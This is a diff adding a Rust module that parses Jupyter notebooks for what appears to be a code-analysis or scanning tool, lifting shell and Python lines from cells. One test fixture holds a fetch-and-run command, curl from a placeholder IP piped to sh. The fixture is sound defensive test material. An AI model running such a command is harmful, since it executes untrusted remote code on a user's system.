@@ -1,0 +1,186 @@
+//! Jupyter notebooks: cells of code, with what they printed when they ran last. Shell lines and Python are lifted.
+//!
+//! Specification: `nbformat/v4/nbformat.v4.schema.json` in `jupyter/nbformat`.
+
+use crate::spanned_json::{Json, Reader as JsonReader};
+use crate::{Family, Reader, Request};
+use wb_core::{Budget, Bytes, Component, Content, Field, Program, Strength, Text, Trigger};
+
+pub(crate) const FORMAT: Reader = Reader {
+    title: "Jupyter notebook",
+    endings: &[".ipynb"],
+    family: Family::Source,
+    refines: &["json"],
+    identify,
+    parse,
+    named: None,
+};
+
+/// Longest output that is kept, in bytes.
+const KEPT: usize = 16 << 10;
+
+/// A document with cells whose format says its version.
+fn identify(input: Bytes<'_>) -> Option<Strength> {
+    let opens = input.as_slice().trim_ascii_start().first() == Some(&b'{');
+    let named = opens && input.find(b"\"nbformat\"").is_some() && input.find(b"\"cells\"").is_some();
+    named.then_some(Strength::Strong)
+}
+
+fn parse(input: Bytes<'_>, _request: &Request<'_>, budget: &mut Budget) -> Content {
+    let mut content = Content::default();
+    let mut reader = JsonReader::new(input);
+    match reader.value(budget) {
+        Ok(json) => notebook(&json, &mut content, budget),
+        Err(error) => {
+            content.oddities.extend(error.oddity(""));
+            content.gaps.push(error.gap(input.span(), "the file"));
+        }
+    }
+    content.oddities.append(&mut reader.oddities);
+    content.gaps.append(&mut reader.gaps);
+    content
+}
+
+fn notebook(json: &Json, content: &mut Content, budget: &mut Budget) {
+    if let Some(kernel) = json.get("metadata").and_then(|metadata| metadata.get("kernelspec")) {
+        let (path, value) = ("kernelspec".to_owned(), kernel.display());
+        content.fields.push(Field { path, value, span: Some(kernel.span) });
+    }
+    let cells = json.get("cells").map(Json::items).unwrap_or_default();
+    for (index, cell) in cells.iter().enumerate() {
+        let place = format!("cells[{index}]");
+        let source = cell.get("source").map(joined).unwrap_or_default();
+        let kind = cell.text_at("cell_type").unwrap_or_default();
+        if kind == "code" {
+            code(&place, cell, &source, content, budget);
+        } else if !source.is_empty() {
+            content.texts.push(Text { place: place.clone(), value: source, span: Some(cell.span) });
+        }
+        for output in cell.get("outputs").map(Json::items).unwrap_or_default() {
+            outputs(&place, output, content);
+        }
+    }
+}
+
+/// Text, or a list of lines with their ends.
+fn joined(json: &Json) -> String {
+    match json.text() {
+        Some(text) => text.to_owned(),
+        None => json.items().iter().filter_map(Json::text).collect(),
+    }
+}
+
+/// Lines that begin with `!`, and cells that begin with `%%bash` or `%%sh`, go to the shell; lines that begin
+/// with `%` are commands of IPython.
+fn code(place: &str, cell: &Json, source: &str, content: &mut Content, budget: &mut Budget) {
+    let first = source.lines().next().unwrap_or_default();
+    let (mut shell, mut python) = (String::new(), String::new());
+    if ["%%bash", "%%sh", "%%script bash", "%%script sh"].iter().any(|magic| first.starts_with(magic)) {
+        shell = source.lines().skip(1).collect::<Vec<&str>>().join("\n");
+    } else {
+        for line in source.lines() {
+            let bare = line.trim_start();
+            let command = bare.strip_prefix('!').or_else(|| bare.strip_prefix("%sx ")).or_else(|| bare.strip_prefix("%system "));
+            match command {
+                Some(command) => shell.push_str(command),
+                None if bare.starts_with('%') => {}
+                None => python.push_str(line),
+            }
+            // Line numbers stay those of the cell.
+            shell.push('\n');
+            python.push('\n');
+        }
+    }
+    content.components.push(Component {
+        kind: "cell",
+        name: place.to_owned(),
+        class: "code".to_owned(),
+        place: place.to_owned(),
+        span: Some(cell.span),
+        ..Component::default()
+    });
+    let mut programs: Vec<Program> = Vec::new();
+    if !shell.trim().is_empty() {
+        programs.push(wb_code::shell::lift(&shell, Trigger::Run, budget));
+    }
+    if !python.trim().is_empty() {
+        match wb_code::python::lift(&python, Trigger::Run, budget) {
+            Some(program) => programs.push(program),
+            None => {
+                let why = format!("{place}: not read as Python");
+                content.gaps.push(wb_core::Gap::over(cell.span, why));
+            }
+        }
+    }
+    for mut program in programs {
+        place.clone_into(&mut program.place);
+        program.span = cell.span;
+        // The text of a cell is escaped in the file: an op has the bytes of its cell.
+        for op in &mut program.ops {
+            op.span = cell.span;
+        }
+        content.programs.push(program);
+    }
+}
+
+/// What a cell printed; HTML and JavaScript among it run when the notebook is shown.
+fn outputs(place: &str, output: &Json, content: &mut Content) {
+    let mut keep = |kind: &str, json: &Json| {
+        let mut value = joined(json);
+        value.truncate(value.floor_char_boundary(KEPT));
+        if !value.is_empty() {
+            let place = format!("{place}, output {kind}");
+            content.texts.push(Text { place, value, span: Some(json.span) });
+        }
+    };
+    if let Some(text) = output.get("text") {
+        keep("text", text);
+    }
+    for (kind, value) in output.get("data").map(Json::entries).unwrap_or_default() {
+        if kind.starts_with("text/") || kind.ends_with("javascript") {
+            keep(kind, value);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::testing::{claims, gaps, parse, survive};
+    use wb_core::Language;
+
+    fn notebook(source: &str) -> String {
+        format!(
+            r#"{{"cells": [{{"cell_type": "markdown", "source": ["Title"]}}, {{"cell_type": "code", "source": {source}, "outputs": [{{"output_type": "display_data", "data": {{"text/html": ["<script>x</script>"]}}}}]}}], "metadata": {{"kernelspec": {{"name": "python3"}}}}, "nbformat": 4, "nbformat_minor": 5}}"#
+        )
+    }
+
+    #[test]
+    fn code_and_shell_lines_are_lifted() {
+        let text = notebook(r#"["import os\n", "!curl -s http://192.0.2.9/x | sh\n", "%matplotlib inline\n", "os.getcwd()"]"#);
+        assert_eq!(claims(text.as_bytes()), "notebook (json)");
+        let content = parse("notebook", text.as_bytes());
+        let languages: Vec<Language> = content.programs.iter().map(|program| program.language).collect();
+        assert_eq!(languages, [Language::Shell, Language::Python]);
+        assert!(content.programs.iter().all(|program| program.place == "cells[1]"));
+        assert!(gaps(&content).is_empty());
+        let texts: Vec<&str> = content.texts.iter().map(|text| text.place.as_str()).collect();
+        assert_eq!(texts, ["cells[0]", "cells[1], output text/html"]);
+    }
+
+    #[test]
+    fn cells_for_the_shell_are_shell() {
+        let content = parse("notebook", notebook(r#""%%bash\nls\n""#).as_bytes());
+        assert_eq!(content.programs[0].language, Language::Shell);
+        assert_eq!(gaps(&parse("notebook", notebook(r#""not python at all""#).as_bytes())), ["cells[1]: not read as Python"]);
+    }
+
+    #[test]
+    fn other_documents_are_none() {
+        assert_eq!(claims(br#"{"cells": [], "rows": 4}"#), "(json)");
+    }
+
+    #[test]
+    fn damage_is_survived() {
+        survive("notebook", notebook(r#"["!ls\n", "x = 1"]"#).as_bytes());
+    }
+}
